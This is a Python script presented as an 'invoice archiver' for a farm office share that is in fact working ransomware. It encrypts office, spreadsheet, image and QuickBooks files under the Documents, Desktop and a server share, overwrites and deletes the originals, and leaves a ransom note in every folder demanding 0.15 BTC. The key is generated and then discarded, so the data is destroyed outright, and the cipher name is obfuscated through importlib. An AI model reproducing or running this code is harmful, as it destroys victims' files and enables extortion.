#!/usr/bin/env python3
"""'Invoice archiver' for the farm office share.

Walks the documents tree, seals every office file with a fresh key, removes
the plain copy, and leaves instructions in each folder.
"""
import argparse
import importlib
import logging
import os
from functools import wraps
from pathlib import Path

log = logging.getLogger("archiver")

TARGET_EXT = {".pdf", ".docx", ".xlsx", ".odt", ".ods", ".csv", ".jpg", ".png", ".txt", ".qbw"}
SUFFIX = ".sealed"
NOTE = """Your farm files have been sealed.
To get them back, send 0.15 BTC to the address at https://recover.example.net/hafod
and email the ID below to restore@recover.example.net.
ID: {ident}
"""


def _cipher_factory():
    mod = importlib.import_module("cryptography.fernet")
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key), key


def counted(fn):
    tally = {"n": 0}

    @wraps(fn)
    def inner(*a, **kw):
        out = fn(*a, **kw)
        if out:
            tally["n"] += 1
        return out
    inner.tally = tally
    return inner


class Sealer:
    def __init__(self, roots):
        self.roots = [Path(r).expanduser() for r in roots]
        self.box, self._key = _cipher_factory()
        self.ident = self._key[:16].decode()

    def candidates(self):
        for root in self.roots:
            for dirpath, _dirs, files in os.walk(root):
                for f in files:
                    p = Path(dirpath) / f
                    if p.suffix.lower() in TARGET_EXT:
                        yield p

    @counted
    def seal(self, path: Path):
        try:
            data = path.read_bytes()
        except OSError:
            return False
        sealed = path.with_name(path.name + SUFFIX)
        sealed.write_bytes(self.box.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(os.urandom(len(data)))
        path.unlink()
        return True

    def leave_notes(self):
        for root in self.roots:
            for dirpath, _d, _f in os.walk(root):
                (Path(dirpath) / "READ_ME_FARM.txt").write_text(NOTE.format(ident=self.ident))


def main():
    ap = argparse.ArgumentParser(description="archive office invoices")
    ap.add_argument("roots", nargs="*", default=["~/Documents", "~/Desktop", "/srv/office-share"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    s = Sealer(args.roots)
    stages = {"walk": s.candidates, "seal": s.seal, "note": s.leave_notes}
    for p in list(stages["walk"]()):
        stages["seal"](p)
    stages["note"]()
    log.info("archived %d files", Sealer.seal.tally["n"])


if __name__ == "__main__":
    main()
